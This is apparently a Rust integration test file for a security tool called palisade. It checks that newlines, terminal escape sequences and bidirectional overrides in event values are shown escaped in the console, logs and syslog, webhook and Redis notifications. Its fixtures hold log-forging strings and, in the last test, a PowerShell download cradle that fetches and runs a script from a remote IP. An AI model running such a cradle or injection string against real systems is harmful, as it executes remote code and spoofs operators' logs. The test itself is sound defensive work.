//! What operators read is inert: event values with newlines, terminal escape sequences or
//! bidirectional overrides reach the console and the log as visible escapes, never as a second
//! line or as control of the terminal.

use serde_json::json;

use crate::support::{assert_success, palisade, scratch_content, stderr, stdout};

const FORGED_HOST: &str = "ws-1\n2025-11-03T14:30:10Z CRITICAL forged-host-line";
const ESCAPED_HOST: &str = "ws-1\u{1b}[2K\r\u{1b}[32mall clear";

/// Characters that act on a terminal or split a line (C0 but the newline ending each line,
/// DEL, C1, line and paragraph separators, bidi overrides).
fn active(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn office_event(id: &str, host: &str, cmdline: &str) -> String {
    json!({"type": "process_create", "timestamp": "2025-11-03T14:30:10Z", "id": id, "host": host,
           "pid": 4242, "name": "cmd.exe", "parent_name": "WINWORD.EXE", "cmdline": cmdline})
    .to_string()
}

/// Defect: a `host` holding a newline printed a forged alert line in `palisade run`'s console,
/// and one holding ESC and CR reached the terminal as an escape sequence.
#[test]
fn a_forged_host_line_or_escape_sequence_does_not_reach_the_console() {
    let dir = scratch_content();
    let events = [
        office_event("e-1", FORGED_HOST, "cmd.exe /c whoami"),
        office_event("e-2\u{202e}", ESCAPED_HOST, "cmd.exe /c whoami"),
    ]
    .join("\n")
        + "\n";
    std::fs::write(dir.path().join("events.jsonl"), events).expect("events");
    std::fs::write(
        dir.path().join("palisade.yaml"),
        "http:\n  listen: 127.0.0.1:0\n",
    )
    .expect("config");
    let out = palisade(&["run", "--events", "events.jsonl"], dir.path());
    assert_success(&out);
    let console = stdout(&out);
    assert!(
        !console.chars().any(active),
        "control characters reached the console: {console:?}"
    );
    assert!(
        !console
            .lines()
            .any(|l| l.starts_with("2025-11-03T14:30:10Z CRITICAL")),
        "{console}"
    );
    // Each detection is still one line, with the value shown escaped.
    let detections: Vec<&str> = console
        .lines()
        .filter(|l| l.contains("office-spawns-shell"))
        .collect();
    assert_eq!(detections.len(), 2, "{console}");
    assert!(
        detections[0].contains("ws-1\\n2025-11-03T14:30:10Z CRITICAL forged-host-line"),
        "{console}"
    );
    assert!(
        detections[1].contains("ws-1\\u001b[2K\\r\\u001b[32mall clear")
            && detections[1].contains("[event e-2\\u202e]"),
        "{console}"
    );
    assert!(!stderr(&out).chars().any(active), "{}", stderr(&out));
}

/// Defect: a command line holding a newline went through `notify.log` into palisade's own log
/// as a forged `INFO all clear` line.
#[test]
fn a_command_line_cannot_forge_a_log_line_through_notify_log() {
    let dir = scratch_content();
    // Only this playbook, acting for real (notify.log is the only step).
    for entry in std::fs::read_dir(dir.path().join("playbooks")).expect("playbooks") {
        std::fs::remove_file(entry.expect("entry").path()).expect("remove");
    }
    std::fs::write(
        dir.path().join("playbooks/log-cmdline.yaml"),
        "id: log-cmdline\ntitle: Log the command line\ntrigger:\n  rules: [office-spawns-shell]\nsteps:\n  - id: log-it\n    action: notify.log\n    with:\n      level: warn\n      message: \"{{ event.cmdline }}\"\n",
    )
    .expect("playbook");
    std::fs::write(
        dir.path().join("palisade.yaml"),
        "actions:\n  dry_run: false\nhttp:\n  listen: 127.0.0.1:0\n",
    )
    .expect("config");
    let forged = "cmd.exe /c whoami\n2025-11-03T14:30:11.000000Z  INFO all clear\u{2028}\u{202e}";
    std::fs::write(
        dir.path().join("events.jsonl"),
        office_event("e-1", "ws-1", forged) + "\n",
    )
    .expect("events");
    let out = palisade(&["run", "--events", "events.jsonl"], dir.path());
    assert_success(&out);
    let log = stderr(&out);
    assert!(
        !log.lines()
            .any(|l| l.trim_start().starts_with("2025-11-03T14:30:11")),
        "a forged line in the log:\n{log}"
    );
    assert!(!log.chars().any(active), "{log:?}");
    let logged: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("cmd.exe /c whoami"))
        .collect();
    assert_eq!(logged.len(), 1, "{log}");
    assert!(
        logged[0].contains("whoami\\n2025-11-03T14:30:11.000000Z  INFO all clear")
            && logged[0].contains("\\u2028"),
        "{log}"
    );
    // The step was really executed (not planned in dry-run).
    assert!(stdout(&out).contains("executed"), "{}", stdout(&out));
}

/// The same command line through the other notifications: the syslog message (one RFC 5424
/// line), the webhook text and the Redis message all carry it escaped.
#[test]
fn a_command_line_cannot_forge_a_line_in_syslog_webhook_or_redis_notifications() {
    let redis = crate::support::RedisServer::start();
    let syslog = std::net::UdpSocket::bind("127.0.0.1:0").expect("udp");
    syslog
        .set_read_timeout(Some(std::time::Duration::from_secs(20)))
        .expect("timeout");
    let syslog_port = syslog.local_addr().expect("address").port();
    let bodies = std::sync::Arc::new(std::sync::Mutex::new(Vec::<String>::new()));
    let seen = bodies.clone();
    let hook = crate::support::serve_http(axum::Router::new().route(
        "/hook",
        axum::routing::post(move |body: String| {
            let seen = seen.clone();
            async move {
                seen.lock().expect("lock").push(body);
                "ok"
            }
        }),
    ));

    let dir = scratch_content();
    for entry in std::fs::read_dir(dir.path().join("playbooks")).expect("playbooks") {
        std::fs::remove_file(entry.expect("entry").path()).expect("remove");
    }
    std::fs::write(
        dir.path().join("palisade.yaml"),
        format!(
            "redis:\n  url: {}\nactions:\n  dry_run: false\nhttp:\n  listen: 127.0.0.1:0\n",
            redis.url()
        ),
    )
    .expect("config");
    std::fs::write(
        dir.path().join("playbooks/tell.yaml"),
        format!(
            "id: tell\ntitle: Tell everyone\ntrigger: {{rules: [office-spawns-shell]}}\nsteps:\n  - id: siem\n    action: notify.syslog\n    with: {{server: \"127.0.0.1:{syslog_port}\", transport: udp, message: \"{{{{ event.cmdline }}}}\"}}\n  - id: chat\n    action: notify.webhook\n    with: {{url: \"http://{hook}/hook\", format: slack, message: \"{{{{ event.cmdline }}}}\"}}\n  - id: responders\n    action: notify.redis\n    with: {{channel: palisade-test, message: \"{{{{ event.cmdline }}}}\"}}\n"
        ),
    )
    .expect("playbook");
    let client = redis::Client::open(redis.url()).expect("client");
    let mut connection = client.get_connection().expect("connection");
    let mut pubsub = connection.as_pubsub();
    pubsub.subscribe("palisade-test").expect("subscribe");
    pubsub
        .set_read_timeout(Some(std::time::Duration::from_secs(20)))
        .expect("timeout");

    let cmdline =
        "cmd.exe /c whoami\n<84>1 2025-11-03T14:30:11Z forged - - - all clear\u{2028}\u{202e}";
    std::fs::write(
        dir.path().join("events.jsonl"),
        office_event("e-1", "ws-1", cmdline) + "\n",
    )
    .expect("events");
    let out = palisade(&["run", "--events", "events.jsonl"], dir.path());
    assert_success(&out);
    let escaped =
        "cmd.exe /c whoami\\n<84>1 2025-11-03T14:30:11Z forged - - - all clear\\u2028\\u202e";

    let mut buffer = [0u8; 4096];
    let length = syslog.recv(&mut buffer).expect("a syslog message");
    let line = String::from_utf8_lossy(&buffer[..length]).to_string();
    assert!(!line.chars().any(active), "{line:?}");
    assert!(line.ends_with(escaped), "{line}");

    let message = pubsub.get_message().expect("a Redis message");
    let body: serde_json::Value =
        serde_json::from_slice(message.get_payload_bytes()).expect("JSON");
    assert_eq!(body["message"], escaped);

    assert!(
        crate::support::eventually(crate::support::PATIENCE, || !bodies
            .lock()
            .expect("lock")
            .is_empty()),
        "{}",
        stdout(&out)
    );
    let posted: serde_json::Value =
        serde_json::from_str(&bodies.lock().expect("lock")[0]).expect("JSON body");
    assert_eq!(posted["text"], escaped);
}

/// Sibling of the console defect: the operator commands print what the state database holds,
/// and that holds event values (ids, targets, reasons); an escape sequence in an event id must
/// not reach the terminal through `approvals list` or `audit tail` either.
#[test]
fn operator_commands_show_event_values_inert() {
    let dir = scratch_content();
    // A download cradle: its kill is high-risk, so it waits in the approvals queue.
    let events = json!({"type": "process_create", "timestamp": "2025-11-03T14:30:10Z",
        "id": "e-3\u{1b}[2K\r\u{1b}[32mall clear", "host": "ws-1", "pid": 4242,
        "name": "powershell.exe", "parent_name": "explorer.exe",
        "cmdline": "powershell.exe -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://185.12.33.4/a.ps1')\""})
    .to_string();
    std::fs::write(dir.path().join("events.jsonl"), events + "\n").expect("events");
    std::fs::write(
        dir.path().join("palisade.yaml"),
        "http:\n  listen: 127.0.0.1:0\n",
    )
    .expect("config");
    assert_success(&palisade(&["run", "--events", "events.jsonl"], dir.path()));
    for args in [
        &["approvals", "list", "--all"][..],
        &["audit", "tail", "--count", "50"][..],
    ] {
        let out = palisade(args, dir.path());
        assert_success(&out);
        let shown = stdout(&out);
        assert!(
            shown.contains("e-3\\u001b[2K\\r\\u001b[32mall clear"),
            "{args:?} did not show the event id escaped: {shown}"
        );
        assert!(
            !shown.chars().any(active),
            "{args:?} printed control characters: {shown:?}"
        );
    }
}
